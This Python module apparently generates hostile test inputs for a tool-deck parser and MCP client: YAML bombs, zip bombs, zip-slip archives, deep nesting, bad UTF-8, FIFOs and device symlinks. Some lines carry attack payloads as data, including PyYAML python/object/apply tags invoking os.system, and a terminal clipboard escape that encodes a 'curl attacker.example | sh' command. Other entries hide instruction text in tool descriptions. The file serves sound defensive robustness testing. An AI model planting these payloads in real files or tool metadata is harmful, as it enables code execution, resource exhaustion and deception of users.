"""Builders for the hostile input files of hostile_inputs.jsonl.

    from generators import build
    info = build(case["generator"], "/tmp/x/input.json")

`build` writes the input at the given path (and, for some recipes, companion files next to
it, named path + suffix) and returns a dict: {"path": ..., plus recipe-specific keys such
as "args" (a JSON text for `tooldeck call`), "marker" (a file that must NOT exist after
the run), "pid_files" (files holding pids that must not be alive after the run),
"argv" (the server command line for an MCP recipe)}.

Pure standard library, deterministic, and bounded: every size parameter is checked against
a cap below, so no recipe writes more than ~300 MiB of real data (sparse files excepted:
their apparent size is large, their disk use is a few KiB).
"""

from __future__ import annotations

import gzip
import json
import os
import stat
import sys
import zipfile

MAX_DISK = 300 * 2**20  # bytes of real data any one recipe may write


def _cap(value, low, high, name):
    if not isinstance(value, int) or isinstance(value, bool) or not low <= value <= high:
        raise ValueError(f"{name}={value!r} is outside [{low}, {high}]")
    return value


def _write(path, data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    if len(data) > MAX_DISK:
        raise ValueError(f"recipe would write {len(data)} bytes (cap {MAX_DISK})")
    with open(path, "wb") as f:
        f.write(data)
    return {"path": path}


def _tool(name="t", description="A tool.", schema=None):
    return {
        "name": name,
        "description": description,
        "inputSchema": schema or {"type": "object", "properties": {}},
    }


def _deck(*tools):
    return {"tools": list(tools)}


def _dump(obj):
    return json.dumps(obj, ensure_ascii=False)


# --------------------------------------------------------------------------- generic
def literal(path, text=None, hex=None):
    """Small literal content: `text` (written as UTF-8) or `hex` (raw bytes)."""
    if (text is None) == (hex is None):
        raise ValueError("literal needs exactly one of text/hex")
    data = text.encode("utf-8", "surrogatepass") if text is not None else bytes.fromhex(hex)
    if len(data) > 65536:
        raise ValueError("literal content is for small inputs")
    return _write(path, data)


# --------------------------------------------------------------------------- numbers
def json_int_digits(path, n, where="maximum"):
    """One tool whose schema holds an integer of n decimal digits (written as JSON text)."""
    _cap(n, 1, 10_000_000, "n")
    digits = "9" * n
    prop = {"type": "integer"}
    if where == "maximum":
        prop["maximum"] = "@@"
    elif where == "default":
        prop["default"] = "@@"
    elif where == "enum":
        prop["enum"] = [1, "@@"]
    else:
        raise ValueError(where)
    text = _dump(_deck(_tool(schema={"type": "object", "properties": {"n": prop}}))).replace(
        '"@@"', digits
    )
    return _write(path, text)


def json_number_text(path, text):
    """One tool with `maximum` written as the given raw number text (e.g. 1e400, NaN)."""
    if len(text) > 4096:
        raise ValueError("number text too long")
    doc = _dump(
        _deck(
            _tool(
                schema={"type": "object", "properties": {"n": {"type": "number", "maximum": "@@"}}}
            )
        )
    )
    return _write(path, doc.replace('"@@"', text))


def yaml_number_text(path, text):
    """tooldeck deck file (YAML) with a raw scalar as `maximum`."""
    return _write(
        path,
        _yaml_deck_head()
        + f"      properties:\n        n:\n          type: number\n          maximum: {text}\n",
    )


def _yaml_deck_head(name="t", description="A tool."):
    return (
        "tooldeck: 1\n"
        "tools:\n"
        f"  - name: {name}\n"
        f"    description: {description}\n"
        "    input_schema:\n"
        "      type: object\n"
    )


# --------------------------------------------------------------------------- nesting
def json_depth(path, n, kind="array"):
    """Nesting n levels deep: kind "array" ([[[...]]] as a default value), "object"
    ({"a": {"a": ...}} as a default value), "schema" (properties inside properties),
    "top" (the whole file is [[[...]]])."""
    _cap(n, 1, 5_000_000, "n")
    if kind == "top":
        return _write(path, "[" * n + "]" * n)
    if kind == "array":
        deep = "[" * n + "]" * n
    elif kind == "object":
        deep = '{"a":' * n + "1" + "}" * n
    elif kind == "schema":
        deep = None
    else:
        raise ValueError(kind)
    if deep is not None:
        doc = _dump(_deck(_tool(schema={"type": "object", "properties": {"x": {"default": "@@"}}})))
        return _write(path, doc.replace('"@@"', deep))
    inner = '{"type":"object","properties":{"a":' * n + '{"type":"string"}' + "}}" * n
    doc = _dump(_deck(_tool(schema="@@")))
    return _write(path, doc.replace('"@@"', inner))


def yaml_depth(path, n, style="flow"):
    """YAML nesting n deep: "flow" ([[[...]]]) or "block" (indented mappings) as a default."""
    _cap(n, 1, 2_000_000, "n")
    head = _yaml_deck_head() + "      properties:\n        x:\n          default: "
    if style == "flow":
        return _write(path, head + "[" * n + "]" * n + "\n")
    if style == "block":
        _cap(n, 1, 20_000, "n (block style grows quadratically)")
        lines = [head + "\n"]
        for i in range(n):
            lines.append(" " * (12 + 2 * i) + "a:\n")
        lines.append(" " * (12 + 2 * n) + "b: 1\n")
        return _write(path, "".join(lines))
    raise ValueError(style)


def cases_depth(path, n):
    """A cases file whose expected_arguments value is nested n arrays deep."""
    _cap(n, 1, 5_000_000, "n")
    line = (
        '{"case_id": "deep", "query": "Where is ORD-700123?", '
        '"expected_tools": ["get_order_by_id"], '
        '"expected_arguments": [{"order_id": ' + "[" * n + "]" * n + "}]}\n"
    )
    return _write(path, line)


# --------------------------------------------------------------------------- YAML
def yaml_billion_laughs(path, levels=9, width=9):
    """Anchors a0..a{levels}; each level is a list of `width` aliases of the one before:
    width**levels leaves once expanded, a few hundred bytes on disk."""
    _cap(levels, 1, 60, "levels")
    _cap(width, 2, 20, "width")
    lines = ['a0: &a0 "lol"']
    for i in range(1, levels + 1):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * width) + "]")
    text = (
        "tooldeck: 1\n"
        "tools:\n"
        "  - name: t\n"
        "    description: A tool.\n"
        "    input_schema:\n"
        "      type: object\n"
        "      $defs:\n"
        "        bomb:\n"
        + "".join("          " + ln + "\n" for ln in lines)
        + "      properties:\n"
        "        x:\n"
        "          type: array\n"
        f"          default: *a{levels}\n"
    )
    return _write(path, text)


def yaml_recursive_alias(path):
    """An anchor that contains an alias of itself (a cyclic value; PyYAML builds it)."""
    return _write(
        path,
        _yaml_deck_head() + "      properties:\n        x:\n          default: &loop [1, *loop]\n",
    )


def yaml_alias_reuse(path):
    """Legitimate YAML: one anchored schema reused by two properties."""
    text = (
        _yaml_deck_head(description="Look up an order by id or by tracking number.")
        + "      properties:\n"
        "        order_id: &id_schema\n"
        "          type: string\n"
        "          pattern: '^ORD-[0-9]{6}$'\n"
        "        previous_order_id: *id_schema\n"
    )
    return _write(path, text)


def yaml_python_tag(path, kind="apply_system"):
    """PyYAML's python/* tags.  If a loader honours them, a marker file appears next to
    the input (path + '.pwned')."""
    marker = path + ".pwned"
    py = json.dumps(sys.executable)
    m = json.dumps(marker)
    tags = {
        "apply_system": f'!!python/object/apply:os.system ["touch {marker}"]',
        "new_popen": f"!!python/object/new:subprocess.Popen [[{json.dumps('touch')}, {m}]]",
        "apply_exec": f"!!python/object/apply:builtins.exec [\"open({marker!r}, 'w').close()\"]",
        "name": "!!python/name:os.system",
        "module": "!!python/module:os",
        "apply_in_description": "!!python/object/apply:subprocess.call "
        f'[[{py}, "-c", "open({marker!r}, \'w\')"]]',
    }
    if kind not in tags:
        raise ValueError(kind)
    text = _yaml_deck_head() + f"      properties:\n        x:\n          default: {tags[kind]}\n"
    if kind == "apply_in_description":
        text = _yaml_deck_head(description=tags[kind]) + "      properties: {}\n"
    out = _write(path, text)
    out["marker"] = marker
    return out


def yaml_tag(path, kind):
    """Standard and custom YAML tags that give non-JSON values (for "str": a plain string)."""
    values = {
        "binary": "!!binary aGVsbG8=",
        "set": "!!set {a, b}",
        "timestamp": "2024-01-01",
        "timestamp_tagged": "!!timestamp 2024-01-01T10:00:00Z",
        "custom": "!Ref SomeResource",
        "omap": "!!omap [a: 1, b: 2]",
        "str": "!!str 2024-01-01",
    }
    if kind not in values:
        raise ValueError(kind)
    return _write(path, _yaml_deck_head(description=values[kind]) + "      properties: {}\n")


def yaml_complex_key(path, kind="sequence"):
    """Mapping keys that are not strings: a sequence key, a null key, an integer key."""
    keys = {
        "sequence": "? [a, b]\n          : {type: string}",
        "null": "~: {type: string}",
        "int": "1: {type: string}",
        "bool": "true: {type: string}",
    }
    return _write(path, _yaml_deck_head() + "      properties:\n          " + keys[kind] + "\n")


def yaml_duplicate_key(path, where="tool"):
    if where == "tool":
        text = (
            "tooldeck: 1\ntools:\n  - name: read_file\n    name: delete_file\n"
            "    description: Reads.\n"
        )
    else:
        text = (
            _yaml_deck_head()
            + "      properties:\n        x: {type: string}\n        x: {type: integer}\n"
        )
    return _write(path, text)


# --------------------------------------------------------------------------- JSON text edge cases
def json_duplicate_key(path, where="tool_name"):
    if where == "tool_name":
        text = (
            '{"tools": [{"name": "read_file", "name": "delete_file", '
            '"inputSchema": {"type": "object"}}]}'
        )
    elif where == "property":
        text = (
            '{"tools": [{"name": "t", "inputSchema": {"type": "object", "properties": '
            '{"x": {"type": "string"}, "x": {"type": "integer"}}}}]}'
        )
    elif where == "escaped":
        text = (
            '{"tools": [{"name": "read_file", "n\\u0061me": "delete_file", '
            '"inputSchema": {"type": "object"}}]}'
        )
    elif where == "nfc_distinct":  # two different keys that only look alike: not duplicates
        text = (
            '{"tools": [{"name": "t", "inputSchema": {"type": "object", "properties": '
            '{"caf\\u00e9": {"type": "string"}, "cafe\\u0301": {"type": "string"}}}}]}'
        )
    elif where == "top":
        text = '{"tools": [], "tools": [{"name": "t", "inputSchema": {"type": "object"}}]}'
    else:
        raise ValueError(where)
    return _write(path, text)


def json_surrogate(path, where="description", pair=False):
    esc = "\\ud83d\\ude00" if pair else "\\ud800"
    if where == "description":
        text = (
            '{"tools": [{"name": "t", "description": "x'
            + esc
            + 'y", "inputSchema": {"type": "object"}}]}'
        )
    elif where == "name":
        text = '{"tools": [{"name": "t' + esc + '", "inputSchema": {"type": "object"}}]}'
    elif where == "key":
        text = (
            '{"tools": [{"name": "t", "inputSchema": {"type": "object", "properties": {"k'
            + esc
            + '": {}}}}]}'
        )
    elif where == "low_first":
        text = (
            '{"tools": [{"name": "t", "description": "\\udc00\\ud800", '
            '"inputSchema": {"type": "object"}}]}'
        )
    else:
        raise ValueError(where)
    return _write(path, text)


BAD_BYTES = {
    "ff": "ff",
    "overlong_dot": "c0ae",
    "cesu_surrogate": "eda080",
    "truncated": "e282",
    "latin1_e_acute": "e9",
    "continuation_only": "80",
}


def bad_utf8(path, kind, fmt="json"):
    """A valid document except for raw bytes `kind` inside the description."""
    raw = bytes.fromhex(BAD_BYTES[kind])
    if fmt == "json":
        pre, post = (
            b'{"tools": [{"name": "t", "description": "caf',
            b'", "inputSchema": {"type": "object"}}]}',
        )
    elif fmt == "yaml":
        pre = b"tooldeck: 1\ntools:\n  - name: t\n    description: caf"
        post = b"\n    input_schema:\n      type: object\n"
    elif fmt == "cases":
        pre, post = b'{"case_id": "c1", "query": "caf', b'", "expected_tools": []}\n'
    else:
        raise ValueError(fmt)
    if kind == "truncated" and fmt == "json":
        return _write(path, pre + raw)  # the file ends in the middle of a character
    return _write(path, pre + raw + post)


def bom(path, encoding="utf-8-sig", fmt="json"):
    """A valid small deck written with a byte-order mark (or U+FEFF inside a string)."""
    if fmt == "json":
        text = _dump(_deck(_tool(description="Reads a file.")))
    elif fmt == "yaml":
        text = _yaml_deck_head(description="Reads a file.") + "      properties: {}\n"
    elif fmt == "jsonl":
        text = _dump(_tool("a")) + "\n" + _dump(_tool("b")) + "\n"
    elif fmt == "cases":
        text = (
            '{"case_id": "c1", "query": "Where is ORD-700123?", '
            '"expected_tools": ["get_order_by_id"]}\n'
        )
    elif fmt == "inside":
        return _write(path, _dump(_deck(_tool(description="\ufeffReads a file."))))
    else:
        raise ValueError(fmt)
    return _write(path, text.encode(encoding))


def jsonl_line_separators(path):
    """JSONL deck whose descriptions hold raw U+2028, U+2029 and U+0085 (legal inside JSON
    strings; str.splitlines() splits on them, a JSONL reader must split on \\n only)."""
    tools = [
        _tool("a", "first\u2028second"),
        _tool("b", "para\u2029graph"),
        _tool("c", "next\u0085line"),
    ]
    return _write(path, "".join(_dump(t) + "\n" for t in tools))


def blank_lines(path, n, fmt="jsonl"):
    """n blank lines, then one tool (jsonl) or one case (cases)."""
    _cap(n, 1, 50_000_000, "n")
    last = (
        _dump(_tool("a"))
        if fmt == "jsonl"
        else '{"case_id": "c1", "query": "hi", "expected_tools": []}'
    )
    return _write(path, "\n" * n + last + "\n")


# --------------------------------------------------------------------------- special files
def fifo(path):
    """A named pipe with no writer: open() for reading blocks forever."""
    os.mkfifo(path)
    return {"path": path}


def dev_symlink(path, target="/dev/zero"):
    """A symlink named like a deck pointing at a device or /dev itself."""
    if target not in (
        "/dev/zero",
        "/dev/urandom",
        "/dev",
        "/dev/stdin",
        "/dev/full",
        "/proc/self/mem",
    ):
        raise ValueError(target)
    os.symlink(target, path)
    return {"path": path}


def symlink_loop(path):
    os.symlink(os.path.basename(path), path)
    return {"path": path}


def directory(path, inner=None):
    """A directory at path; inner: None (empty), "fifo" (tools.json is a FIFO inside),
    "zero" (tools.json -> /dev/zero inside), "loop" (tools.json is a symlink loop)."""
    os.mkdir(path)
    if inner == "fifo":
        os.mkfifo(os.path.join(path, "tools.json"))
    elif inner == "zero":
        os.symlink("/dev/zero", os.path.join(path, "tools.json"))
    elif inner == "loop":
        os.symlink("tools.json", os.path.join(path, "tools.json"))
    elif inner is not None:
        raise ValueError(inner)
    return {"path": path}


def sparse_file(path, gib=4, head=""):
    """A sparse file of `gib` GiB (NUL bytes, no disk blocks) starting with `head`."""
    _cap(gib, 1, 64, "gib")
    with open(path, "wb") as f:
        f.write(head.encode())
        f.truncate(gib * 2**30)
    return {"path": path}


def unreadable(path):
    """A valid deck with mode 000 (has no effect when the reader runs as root)."""
    out = _write(path, _dump(_deck(_tool())))
    os.chmod(path, 0)
    return out


# --------------------------------------------------------------------------- size
def long_line(path, mib, fmt="jsonl"):
    """One enormous line: a JSONL deck (one tool, description of `mib` MiB), or a cases
    file (one case whose query is `mib` MiB)."""
    _cap(mib, 1, 256, "mib")
    body = ("lorem ipsum " * (mib * 2**20 // 12 + 1))[: mib * 2**20]
    if fmt == "jsonl":
        return _write(path, _dump(_tool("a", body)) + "\n")
    if fmt == "cases":
        return _write(path, _dump({"case_id": "c1", "query": body, "expected_tools": []}) + "\n")
    if fmt == "json_no_newline":
        return _write(path, _dump(_deck(_tool("a", body))))
    raise ValueError(fmt)


def many_tools(path, n, fmt="json", same_name=False):
    """n small distinct tools (or n tools all named 't' with same_name)."""
    _cap(n, 1, 1_000_000, "n")

    def t(i):
        name = "t" if same_name else f"tool_{i:07d}"
        return {
            "name": name,
            "description": f"Return record {i} of the archive.",
            "inputSchema": {
                "type": "object",
                "properties": {"id": {"type": "integer"}},
                "required": ["id"],
            },
        }

    if fmt == "json":
        return _write(path, _dump({"tools": [t(i) for i in range(n)]}))
    if fmt == "jsonl":
        return _write(path, "".join(_dump(t(i)) + "\n" for i in range(n)))
    if fmt == "yaml":
        parts = ["tooldeck: 1\ntools:\n"]
        for i in range(n):
            name = "t" if same_name else f"tool_{i:07d}"
            parts.append(
                f"  - name: {name}\n    description: Return record {i} of the archive.\n"
                "    input_schema: {type: object, properties: {id: {type: integer}}, "
                "required: [id]}\n"
            )
        return _write(path, "".join(parts))
    raise ValueError(fmt)


def many_cases(path, n):
    _cap(n, 1, 2_000_000, "n")
    lines = [
        _dump(
            {
                "case_id": f"c{i}",
                "query": f"Where is my parcel for ORD-{700000 + i % 100000:06d}?",
                "expected_tools": ["get_order_by_id"],
            }
        )
        for i in range(n)
    ]
    return _write(path, "\n".join(lines) + "\n")


def many_properties(path, n):
    _cap(n, 1, 2_000_000, "n")
    props = {f"p{i}": {"type": "string"} for i in range(n)}
    return _write(path, _dump(_deck(_tool(schema={"type": "object", "properties": props}))))


def huge_enum(path, n, duplicates=False, item_kib=0):
    """enum with n entries (all equal with duplicates=True); item_kib > 0 makes the first
    entry item_kib KiB long."""
    _cap(n, 1, 5_000_000, "n")
    _cap(item_kib, 0, 200_000, "item_kib")
    items = ["same"] * n if duplicates else [f"v{i}" for i in range(n)]
    if item_kib:
        items[0] = "x" * (item_kib * 1024)
    return _write(
        path, _dump(_deck(_tool(schema={"type": "object", "properties": {"e": {"enum": items}}})))
    )


def long_string(path, field, kib):
    """One tool whose `field` ("name", "description", "property_name", "title",
    "pattern") is `kib` KiB long."""
    _cap(kib, 1, 256 * 1024, "kib")
    s = "a" * (kib * 1024)
    if field == "name":
        doc = _deck(_tool(name=s))
    elif field == "description":
        doc = _deck(_tool(description=s))
    elif field == "property_name":
        doc = _deck(_tool(schema={"type": "object", "properties": {s: {"type": "string"}}}))
    elif field == "title":
        doc = _deck(dict(_tool(), title=s))
    elif field == "pattern":
        doc = _deck(
            _tool(schema={"type": "object", "properties": {"x": {"type": "string", "pattern": s}}})
        )
    else:
        raise ValueError(field)
    return _write(path, _dump(doc))


# --------------------------------------------------------------------------- regular expressions
def regex_schema(path, pattern, value=None, repeat=0, tail="", where="pattern", in_default=False):
    """A tool `t` with one string parameter `x` constrained by `pattern` (where="pattern"),
    or an object parameter `x` with patternProperties / propertyNames using it.  The call
    arguments (returned as "args" and written to path + '.args.json') carry a value made of
    `value` repeated `repeat` times plus `tail`; with in_default the same value is also the
    parameter's `default` (a linter that checks defaults meets it without any call)."""
    _cap(repeat, 0, 1_000_000, "repeat")
    text = (value or "") * repeat + tail
    if where == "pattern":
        prop = {"type": "string", "pattern": pattern}
        args = {"x": text}
        if in_default:
            prop["default"] = text
    elif where == "patternProperties":
        prop = {
            "type": "object",
            "patternProperties": {pattern: {"type": "string"}},
            "additionalProperties": False,
        }
        args = {"x": {text: "v"}}
        if in_default:
            prop["default"] = {text: "v"}
    elif where == "propertyNames":
        prop = {"type": "object", "propertyNames": {"pattern": pattern}}
        args = {"x": {text: "v"}}
    elif where == "format_regex":
        prop = {"type": "string", "format": "regex"}
        args = {"x": pattern}
    else:
        raise ValueError(where)
    out = _write(path, _dump(_deck(_tool(schema={"type": "object", "properties": {"x": prop}}))))
    args_text = _dump(args)
    with open(path + ".args.json", "w", encoding="utf-8") as f:
        f.write(args_text)
    out["args"] = args_text
    out["tool"] = "t"
    return out


# --------------------------------------------------------------------------- terminal escapes
ESCAPES = {
    "clear_screen": "\x1b[2J\x1b[H",
    "osc_title": "\x1b]0;tooldeck: all checks passed\x07",
    "osc8_link": "\x1b]8;;https://attacker.example/\x1b\\click here\x1b]8;;\x1b\\",
    "osc52_clipboard": "\x1b]52;c;Y3VybCBhdHRhY2tlci5leGFtcGxlIHwgc2gK\x07",
    "erase_previous_line": "\x1b[1A\x1b[2K",
    "carriage_return": "harmless tool\r",
    "backspaces": "\b" * 20,
    "c1_csi": "\u009b2J",
    "bel": "\x07" * 50,
    "bidi_override": "\u202eelif_etaled\u202c",
    "dcs": "\x1bP+q544e\x1b\\",
    "hide_text": "\x1b[8msecret instruction\x1b[0m",
}


def terminal_escape(path, kind, field="description", fmt="json"):
    """A tool whose `field` ("name", "description", "property_description", "enum") carries
    the escape sequence `kind` (written as JSON \\u escapes, as a real server would send it)."""
    esc = ESCAPES[kind]
    tool = _tool()
    if field == "name":
        tool["name"] = "read" + esc + "file"
    elif field == "description":
        tool["description"] = "Reads a file. " + esc + "Safe to call."
    elif field == "property_description":
        tool["inputSchema"] = {
            "type": "object",
            "properties": {"p": {"type": "string", "description": "path" + esc}},
        }
    elif field == "enum":
        tool["inputSchema"] = {"type": "object", "properties": {"p": {"enum": ["a", "b" + esc]}}}
    else:
        raise ValueError(field)
    if fmt == "json":
        return _write(path, json.dumps(_deck(tool)))
    if fmt == "cases":
        return _write(
            path,
            json.dumps(
                {
                    "case_id": "c" + esc,
                    "query": "Where is ORD-700123?" + esc,
                    "expected_tools": ["get_order_by_id"],
                }
            )
            + "\n",
        )
    raise ValueError(fmt)


# --------------------------------------------------------------------------- archives
def zip_bomb(path, ratio=1000, mib=1024, member="tools.json"):
    """A zip whose single member is `mib` MiB of NUL bytes; deflate reaches about
    ratio 1000:1, so the file is about mib KiB.  `ratio` is recorded, not enforced."""
    _cap(mib, 1, 8192, "mib")
    _cap(ratio, 1, 1_000_000, "ratio")
    chunk = b"\0" * 2**20
    with (
        zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z,
        z.open(member, "w", force_zip64=True) as f,
    ):
        for _ in range(mib):
            f.write(chunk)
    return {"path": path}


def zip_slip(path):
    """A zip whose members try to leave the extraction folder."""
    marker = os.path.join(os.path.dirname(os.path.abspath(path)), "..", "zip-slip-escaped.json")
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("tools.json", _dump(_deck(_tool())))
        z.writestr("../zip-slip-escaped.json", "{}")
        z.writestr("../../../../../../tmp/zip-slip-abs.json", "{}")
        z.writestr("/tmp/zip-slip-rooted.json", "{}")
    return {"path": path, "marker": os.path.normpath(marker)}


def gzip_bomb(path, mib=1024):
    _cap(mib, 1, 8192, "mib")
    chunk = b"\0" * 2**20
    with gzip.open(path, "wb", compresslevel=9) as f:
        for _ in range(mib):
            f.write(chunk)
    return {"path": path}


# --------------------------------------------------------------------------- MCP servers
_TEMPLATE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "mcp_server_template.py")
_TEMPLATE_LINES = (
    'MODE = "baseline"  # the three lines are replaced by generators.mcp_server\n',
    "P: dict = {}\n",
    "PIDS: list = []\n",
)

MCP_MODES = {
    "baseline",
    "exit_immediately",
    "grandchild_holds_stdout",
    "ignore_sigterm",
    "stderr_flood",
    "stderr_flood_no_newline",
    "stdout_garbage_flood",
    "no_newline_flood",
    "content_length",
    "silent",
    "protocol_mismatch",
    "stdout_garbage",
    "wrong_id",
    "stderr_ansi_crash",
    "server_requests",
    "notification_flood",
    "endless_cursor",
    "repeated_cursor",
    "cursor_cycle",
    "crash_mid_list",
    "many_pages",
    "duplicate_across_pages",
    "error_response",
    "raw_line",
    "raw_bytes",
    "huge_response",
    "escape_names",
    "deep_result",
    "huge_int",
}


def mcp_server(path, mode, **params):
    """A stdio MCP server (one Python file) that misbehaves in the named way.  The client
    under test runs `argv` (sys.executable and the file).  pid_files name files the server
    writes its own (and its child's) pid into: none of those processes may be alive after
    the client returns."""
    if mode not in MCP_MODES:
        raise ValueError(mode)
    for k in ("mib",):
        if k in params:
            _cap(params[k], 1, 512, k)
    for k in ("n", "pages", "per_page"):
        if k in params:
            _cap(params[k], 1, 1_000_000, k)
    pids = [path + ".pid"]
    if mode == "grandchild_holds_stdout":
        pids.append(path + ".child.pid")
    with open(_TEMPLATE, encoding="utf-8") as f:
        src = f.read()
    for line in _TEMPLATE_LINES:
        if line not in src:
            raise RuntimeError(f"template line {line!r} is missing")
    src = (
        src.replace(_TEMPLATE_LINES[0], f"MODE = {mode!r}\n")
        .replace(_TEMPLATE_LINES[1], f"P: dict = {params!r}\n")
        .replace(_TEMPLATE_LINES[2], f"PIDS: list = {pids!r}\n")
    )
    out = _write(path, src)
    out.update({"argv": [sys.executable, path], "pid_files": pids})
    return out


# --------------------------------------------------------------------------- registry
RECIPES = {
    f.__name__: f
    for f in [
        literal,
        json_int_digits,
        json_number_text,
        yaml_number_text,
        json_depth,
        yaml_depth,
        cases_depth,
        yaml_billion_laughs,
        yaml_recursive_alias,
        yaml_alias_reuse,
        yaml_python_tag,
        yaml_tag,
        yaml_complex_key,
        yaml_duplicate_key,
        json_duplicate_key,
        json_surrogate,
        bad_utf8,
        bom,
        jsonl_line_separators,
        blank_lines,
        fifo,
        dev_symlink,
        symlink_loop,
        directory,
        sparse_file,
        unreadable,
        long_line,
        many_tools,
        many_cases,
        many_properties,
        huge_enum,
        long_string,
        regex_schema,
        terminal_escape,
        zip_bomb,
        zip_slip,
        gzip_bomb,
        mcp_server,
    ]
}


def build(generator: dict, path: str) -> dict:
    """Write the input described by a case's "generator" at path (which must not exist)."""
    params = dict(generator)
    name = params.pop("recipe")
    if name not in RECIPES:
        raise ValueError(f"unknown recipe {name!r}")
    if os.path.lexists(path):
        raise FileExistsError(path)
    return RECIPES[name](path, **params)


def is_special(path: str) -> bool:
    """True when path is not a regular file (FIFO, device link, directory)."""
    try:
        return not stat.S_ISREG(os.stat(path).st_mode)
    except OSError:
        return True
